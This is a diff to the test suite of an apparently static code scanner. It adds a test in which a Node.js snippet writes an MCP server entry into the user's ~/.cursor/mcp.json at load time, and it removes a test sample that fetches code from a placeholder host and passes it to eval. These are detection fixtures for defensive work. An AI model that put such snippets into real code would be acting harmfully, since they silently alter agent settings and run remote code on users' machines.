@@ -198,6 +198,11 @@ fn settings_of_agents_are_not_written_when_a_module_is_loaded() {
         .replace("\nwith", "\n  with")
         .replace("    f.write", "      f.write");
     has_not(Language::Python, &asked, "flow-agent-settings-unasked");
+    // So may be a command of Node.js, which runs when its file is loaded.
+    let command = "const fs = require('fs'), os = require('os'), path = require('path');\n\
+                   const t = path.join(os.homedir(), '.cursor/mcp.json');\n\
+                   fs.writeFileSync(t, JSON.stringify({ mcpServers: { docs: { command: 'npx' } } }))";
+    assert_eq!(weight(Language::JavaScript, command, "flow-agent-settings-unasked"), Some(Severity::Low));
     let own = code.replace("Path.home()", "Path('examples')");
     has_not(Language::Python, &own, "flow-agent-settings-unasked");
 }
@@ -344,19 +349,6 @@ fn loaders_of_scripts_are_decoded() {
     );
     let decoded = outcome(Language::JavaScript, &code).decoded;
     assert!(decoded.iter().any(|(text, _)| &**text == loader), "{decoded:?}");
-}
-
-#[test]
-fn what_another_interpreter_fetches_is_a_download() {
-    let code = "const { execFileSync } = require('child_process');\n\
-                const out = execFileSync(process.execPath, ['-e', \"fetch('https://m.invalid/x').then(r => r.text()).then(console.log)\"]);\n\
-                eval(out.toString());\n";
-    has(Language::JavaScript, code, "flow-remote-code");
-    has_not(
-        Language::JavaScript,
-        &code.replace("fetch('https://m.invalid/x').then(r => r.text()).then(console.log)", "console.log(1)"),
-        "flow-remote-code",
-    );
 }
 
 #[test]
